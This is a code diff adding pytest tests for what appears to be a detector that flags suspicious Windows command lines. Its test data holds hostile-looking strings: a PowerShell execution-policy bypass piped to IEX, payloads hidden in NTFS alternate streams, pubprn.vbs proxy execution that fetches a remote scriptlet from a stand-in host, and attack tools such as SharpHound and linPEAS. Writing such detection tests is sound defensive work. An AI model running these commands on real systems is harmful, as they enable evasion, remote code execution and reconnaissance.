@@ -161,6 +161,45 @@ def test_what_it_does_is_named(text: str, flag: str) -> None:
     assert flag in flags(text), (programs(text), sorted(flags(text)))
 
 
+def test_the_keys_of_a_table_are_no_commands() -> None:
+    line = "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; 'a b' = 1; StartTime=(Get-Date).AddDays(-1)}"
+    assert programs(line) == ["get-winevent", "get-date"]
+
+
+def test_a_quoted_program_is_one_where_the_line_hands_on_powershell() -> None:
+    line = r'"C:\Windows\System32\powershell.exe" -exec bypass "$x.a.execute | IEX"'
+    assert "policy_bypass" in flags(line)
+    assert "iex" in programs(line)
+
+
+@pytest.mark.parametrize(
+    ("text", "flag"),
+    [
+        (r"type evil.exe > notes.txt:evil.exe", "alternate_stream"),
+        (r"wscript c:\docs\a.doc:run.vbs", "alternate_stream"),
+        ("pubprn.vbs 127.0.0.1 script:https://x.example/a.sct", "proxy_execution"),
+        ("frobnicate.exe /s calc.exe", "runs_program"),
+        ("SharpHound.exe -c All", "attack_tool"),
+        (r".\linPEAS.sh", "attack_tool"),
+    ],
+)
+def test_what_any_program_may_be_told_is_named(text: str, flag: str) -> None:
+    assert flag in flags(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "scp app.zip host.example.com:backup",
+        "findstr x main.txt:12",
+        "taskkill /im notepad.exe",
+        "start powershell.exe",
+    ],
+)
+def test_what_only_resembles_it_is_not(text: str) -> None:
+    assert not flags(text) & {"alternate_stream", "runs_program"}
+
+
 def test_what_can_not_be_known_is_said_to_be_opaque() -> None:
     dynamic = commands("& $unknown arg")[0]
     assert dynamic.opaque == ("dynamic_program",)
